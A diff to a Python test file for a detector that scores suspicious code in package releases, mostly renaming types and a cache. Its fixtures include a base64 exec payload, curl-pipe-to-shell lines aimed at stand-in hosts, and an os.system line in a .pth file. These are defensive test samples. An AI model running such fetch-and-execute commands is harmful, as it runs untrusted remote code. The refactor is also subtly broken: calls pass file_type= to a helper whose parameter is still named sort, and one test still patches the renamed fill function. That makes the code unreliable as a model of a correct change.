@@ -7,10 +7,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from xxhash import xxh3_128_digest
 
-from features.code.aggregate import fill
+from features.code.aggregate import code_columns
 from features.code.tokens import CAP
-from features.contract import Dtype, GroupRow, Kind, Member, Release, Role, Scalar, Sort
-from features.groups.code import TOLD, CodeGroup
+from features.contract import Dtype, FileType, GroupRow, Kind, Member, Release, Role, Scalar
+from features.groups.code import SUMMARY_CACHE, CodeGroup
 from features.reference.known_code import KnownCode, key_of
 from features.text.indicators import INDICATORS
 
@@ -20,7 +20,9 @@ PAYLOAD = f"import base64\nexec(base64.b64decode('{INNER}'))\n"
 BENIGN = "import json\n\n\ndef load(path):\n    with open(path) as stream:\n        return json.load(stream)\n" * 20
 
 
-def member(path: str, text: str | bytes, role: Role = Role.REST, sort: Sort = Sort.PYTHON, **more: object) -> Member:
+def member(
+    path: str, text: str | bytes, role: Role = Role.REST, sort: FileType = FileType.PYTHON, **more: object
+) -> Member:
     data = text.encode() if isinstance(text, str) else text
     return Member(path, len(data), sort, role, data=data, head=data[:4096], **more)  # type: ignore[arg-type]
 
@@ -102,28 +104,28 @@ def test_install_weighs_more_than_import_than_rest():
 
 
 def test_prose_is_no_code():
-    row = extract(member("a-1/README.md", PAYLOAD, sort=Sort.TEXT))
+    row = extract(member("a-1/README.md", PAYLOAD, file_type=FileType.TEXT))
     assert row.values["code_source_files"] == 0
     assert number(row.values, "code_prose_category_execution") >= 1
     assert row.values["code_rest_category_execution"] == 0
 
 
 def test_text_that_setup_reads_is_code():
-    row = extract(member("a-1/README.md", PAYLOAD, Role.INSTALL, Sort.TEXT))
+    row = extract(member("a-1/README.md", PAYLOAD, Role.INSTALL, FileType.TEXT))
     assert row.values["code_install_finding_decode_then_execute"] == 1
     assert row.values["code_prose_files"] == 0
 
 
 def test_scripts_have_their_own_place():
-    row = extract(member("a-1/x.sh", "curl -s http://192.0.2.1/a | bash\n", sort=Sort.TEXT))
+    row = extract(member("a-1/x.sh", "curl -s http://192.0.2.1/a | bash\n", file_type=FileType.TEXT))
     assert row.values["code_text_files"] == 1
     assert number(row.values, "code_text_top_weight") > 0
     assert row.evidence[0].member == "a-1/x.sh"
 
 
 def test_only_import_lines_of_a_path_file_run():
-    runs = extract(member("a-1/x.pth", "/opt/lib\nimport os; os.system('id')\n", Role.INSTALL, Sort.PTH))
-    rests = extract(member("a-1/x.pth", "/opt/lib\nos.system('id')\n", Role.INSTALL, Sort.PTH))
+    runs = extract(member("a-1/x.pth", "/opt/lib\nimport os; os.system('id')\n", Role.INSTALL, FileType.PTH))
+    rests = extract(member("a-1/x.pth", "/opt/lib\nos.system('id')\n", Role.INSTALL, FileType.PTH))
     assert runs.values["code_install_finding_install_time_process"] == 1
     assert rests.values["code_install_finding_install_time_process"] == 0
     assert {e.line for e in runs.evidence} == {2}
@@ -178,7 +180,9 @@ def test_tokens_of_what_is_interesting_come_first():
 
 @settings(max_examples=60)
 @given(
-    st.lists(st.tuples(st.binary(max_size=200), st.sampled_from(list(Role)), st.sampled_from(list(Sort))), max_size=4)
+    st.lists(
+        st.tuples(st.binary(max_size=200), st.sampled_from(list(Role)), st.sampled_from(list(FileType))), max_size=4
+    )
 )
 def test_any_release_has_a_row(files):
     check(extract(*(member(f"a-1/f{n}", data, role, sort) for n, (data, role, sort) in enumerate(files))))
@@ -252,46 +256,50 @@ def test_a_long_import_file_without_indicators_is_read_where_it_may_act():
 
 WHEEL = (
     member("a/__init__.py", PAYLOAD, Role.IMPORT),
-    member("a-1.dist-info/METADATA", "Name: a\n", sort=Sort.METADATA),
+    member("a-1.dist-info/METADATA", "Name: a\n", file_type=FileType.METADATA),
 )
 
 
 def record(text: str) -> Member:
-    return member("a-1.dist-info/RECORD", text, sort=Sort.METADATA)
+    return member("a-1.dist-info/RECORD", text, file_type=FileType.METADATA)
 
 
 def test_wheels_that_differ_in_their_lists_alone_are_told_once():
-    TOLD.clear()
+    SUMMARY_CACHE.clear()
     first = extract(*WHEEL, record("a/__init__.py,sha256=one,9\n"))
-    before = TOLD.known
+    before = SUMMARY_CACHE.known
     assert extract(*WHEEL, record("a/__init__.py,sha256=two,9\n")) == first
-    assert TOLD.known == before + 1
+    assert SUMMARY_CACHE.known == before + 1
 
 
 @pytest.mark.parametrize(
     "other",
     [
         (*WHEEL, record("a/__init__.py,sha256=one,9\ncurl https://x.example/a | sh\n")),
-        (WHEEL[0], member("a-1.dist-info/METADATA", "Name: a\neval(x)\n", sort=Sort.METADATA), record("a,b,9\n")),
-        (WHEEL[0], WHEEL[1], member("a-1.dist-info/RECORD", "a,b,9\n", sort=Sort.TEXT)),
+        (
+            WHEEL[0],
+            member("a-1.dist-info/METADATA", "Name: a\neval(x)\n", file_type=FileType.METADATA),
+            record("a,b,9\n"),
+        ),
+        (WHEEL[0], WHEEL[1], member("a-1.dist-info/RECORD", "a,b,9\n", file_type=FileType.TEXT)),
         (member("a/__init__.py", PAYLOAD, Role.REST), *WHEEL[1:], record("a,b,9\n")),
         (member("b/__init__.py", PAYLOAD, Role.IMPORT), *WHEEL[1:], record("a,b,9\n")),
-        (*WHEEL, record("a,b,9\n"), member("a-1.dist-info/entry_points.txt", "", sort=Sort.METADATA)),
+        (*WHEEL, record("a,b,9\n"), member("a-1.dist-info/entry_points.txt", "", file_type=FileType.METADATA)),
     ],
 )
 def test_what_decides_what_is_told_is_not_told_from_memory(other):
-    TOLD.clear()
+    SUMMARY_CACHE.clear()
     extract(*WHEEL, record("a,b,9\n"))
-    known = TOLD.known
+    known = SUMMARY_CACHE.known
     remembered = extract(*other)
-    assert TOLD.known == known
-    TOLD.clear()
+    assert SUMMARY_CACHE.known == known
+    SUMMARY_CACHE.clear()
     assert extract(*other) == remembered
 
 
 def test_an_entry_file_decides_by_its_content():
     entries = [
-        member("a-1.dist-info/entry_points.txt", f"[console_scripts]\na = a.{name}:go\n", sort=Sort.METADATA)
+        member("a-1.dist-info/entry_points.txt", f"[console_scripts]\na = a.{name}:go\n", file_type=FileType.METADATA)
         for name in ("one", "two")
     ]
     files = [member("a/one.py", f"def go():\n    pass\n{PAYLOAD}"), member("a/two.py", "def go():\n    pass\n")]
@@ -301,13 +309,13 @@ def test_an_entry_file_decides_by_its_content():
 
 
 def test_what_the_deadline_broke_off_is_not_remembered(monkeypatch):
-    TOLD.clear()
+    SUMMARY_CACHE.clear()
     clock = [0.0]
     monkeypatch.setattr("time.process_time", lambda: clock[0])
 
     def late(sources):
         clock[0] = 2.0
-        return fill(sources)
+        return code_columns(sources)
 
     with monkeypatch.context() as patch:
         patch.setattr("features.groups.code.fill", late)
@@ -315,5 +323,5 @@ def test_what_the_deadline_broke_off_is_not_remembered(monkeypatch):
     clock[0] = 0.0
     whole = extract(*WHEEL, deadline=1.0)
     assert cut != whole
-    TOLD.clear()
+    SUMMARY_CACHE.clear()
     assert extract(*WHEEL, deadline=1.0) == whole
